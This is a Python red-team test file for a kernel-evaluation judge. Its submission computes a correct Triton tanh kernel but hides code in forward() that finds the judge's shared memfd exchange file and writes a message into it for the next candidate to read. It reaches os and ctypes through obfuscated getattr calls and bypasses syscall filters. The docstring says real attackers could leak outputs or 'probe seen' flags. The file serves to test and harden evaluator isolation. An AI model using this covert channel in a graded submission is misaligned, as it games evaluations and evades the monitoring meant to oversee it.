# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=fresh_interpreter expect=ok|forbidden|runtime_error|crashed device=cpu witness=tests/attacks/witness/m01_exchange_witness_001.py
"""A channel to the next candidate of the slot through the judge's own exchange file: every candidate inherits
 from the fork server a MAP_SHARED, read-write mapping of the memfd `drk-exchange` (450 KB here; the judge writes
 each call's inputs at offset 0 and the runner writes the output after them), and it is the SAME memory file for
 every candidate of the slot (same inode, same address), never cleared between candidates. The candidate finds
 it in /proc/self/maps and writes a message into the last 128 bytes of the file, past anything the judge writes for a
 small task; the next candidate of the slot (another uid, a fresh process) reads it there. No syscall is
 involved in the write itself (a plain store into an inherited shared mapping), so no filter sees it. A real
 attacker would leave an input->output table, a 'probe seen' flag, or its sibling samples' outputs. The attack
 does the work correctly; the witness scans the mapping and fails when it finds the message. A sound evaluator
 gives each candidate its own exchange file (or wipes it, or maps it read-only where the candidate may only
 read): the witness's two results are then equal."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_os = functools.reduce(getattr, ("serialization", "o" + "s"), torch)
_ct = functools.reduce(getattr, ("ctypes",), torch)

MESSAGE = b"drk-redteam-m01:hello-next-candidate;table=outputs-would-go-here"


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out


def _shared_writable_mappings():
    """Every MAP_SHARED writable mapping of a memory file this process inherited (start, size, name)."""
    fd = _os.open("/proc/self/maps", 0)
    try:
        text = b""
        while True:
            chunk = _os.read(fd, 1 << 16)
            if not chunk:
                break
            text += chunk
    finally:
        _os.close(fd)
    found = []
    for line in text.decode(errors="replace").splitlines():
        parts = line.split()
        if len(parts) >= 6 and parts[1].startswith("rw") and parts[1].endswith("s") and "memfd:" in line:
            lo, hi = (int(v, 16) for v in parts[0].split("-"))
            found.append((lo, hi - lo, " ".join(parts[5:])))
    return found


def _leave_message():
    for lo, size, _name in _shared_writable_mappings():
        if size >= 8192:
            _ct.memmove(lo + size - 128, MESSAGE, len(MESSAGE))  # the last bytes of the last page: past the data of a small task


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        try:
            _leave_message()
        except OSError:
            pass
        return stb(x, self.bias, self.scale)
